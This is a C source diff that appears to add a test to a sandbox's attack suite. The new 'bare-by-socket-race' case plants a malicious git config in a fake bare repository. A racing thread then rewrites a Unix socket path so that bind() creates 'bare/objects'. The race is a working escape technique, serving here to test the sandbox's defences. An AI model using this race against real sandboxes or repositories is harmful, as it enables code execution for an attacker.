@@ -182,6 +182,44 @@ static int attack_bare_there(char **arguments)
 	return verdict(won, "a race for the configuration of a repository without the name");
 }
 
+/* In a directory of the sandbox's own a socket is bound by the kernel, which reads the name again.
+ */
+static struct sockaddr_un place = {.sun_family = AF_UNIX, .sun_path = "/tmp/socket"};
+
+static void *rewrite_socket(void *data)
+{
+	(void)data;
+	while (!done) {
+		memcpy(place.sun_path, "/tmp/socket\0", 13);
+		linger(300);
+		memcpy(place.sun_path, "bare/objects", 13);
+		linger(300);
+	}
+	return NULL;
+}
+
+static int attack_bare_by_socket_race(char **arguments)
+{
+	uint64_t until;
+
+	(void)arguments;
+	mkdir("bare", 0755);
+	put("bare/config", evil_config);
+	put("bare/HEAD", "ref: refs/heads/main\n");
+	mkdir("bare/refs", 0755);
+	umask(0);
+	start_racer(rewrite_socket, NULL);
+	for (until = now_ms() + RACE_MS; now_ms() < until && access("bare/objects", F_OK) < 0;) {
+		int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+
+		bind(fd, (struct sockaddr *)&place, sizeof(place));
+		close(fd);
+		unlink("/tmp/socket");
+	}
+	done = true;
+	return verdict(access("bare/objects", F_OK) == 0, "a race for a socket's name");
+}
+
 static int attack_worktree_moved(char **arguments)
 {
 	(void)arguments;
@@ -216,6 +254,7 @@ static const struct attack attacks[] = {
 	{"below-bare", 1, attack_below_bare},
 	{"bare-by-file", 1, attack_bare_by_file},
 	{"bare-by-socket", 1, attack_bare_by_socket},
+	{"bare-by-socket-race", 1, attack_bare_by_socket_race},
 	{"bare-there", 1, attack_bare_there},
 	{"worktree-moved", 1, attack_worktree_moved},
 };
